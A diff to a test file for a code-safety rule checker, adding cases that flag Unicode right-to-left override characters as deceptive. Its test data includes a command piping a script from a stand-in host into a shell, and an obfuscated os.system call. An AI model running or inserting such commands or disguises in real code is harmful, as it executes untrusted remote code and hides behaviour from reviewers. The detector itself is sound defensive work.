@@ -24,6 +24,8 @@ class TestRules:
         [
             ("no_harm", "unacceptable", "import os\nos.system('curl http://x.example | sh')\n"),
             ("no_deceit", "unacceptable", "getattr(__import__('o' + 's'), 'system')('ls')\n"),
+            ("no_deceit", "unacceptable", "x = 'a\u202e'\n"),
+            ("no_deceit", "doubtful", "x = 'a\u202eb\u202c'\n"),
             ("no_deceit", "doubtful", f"x = '{'ab1CDEFGHIJKLMNOPqrs' * 30}'\n"),
             (
                 "keeps_secrets",
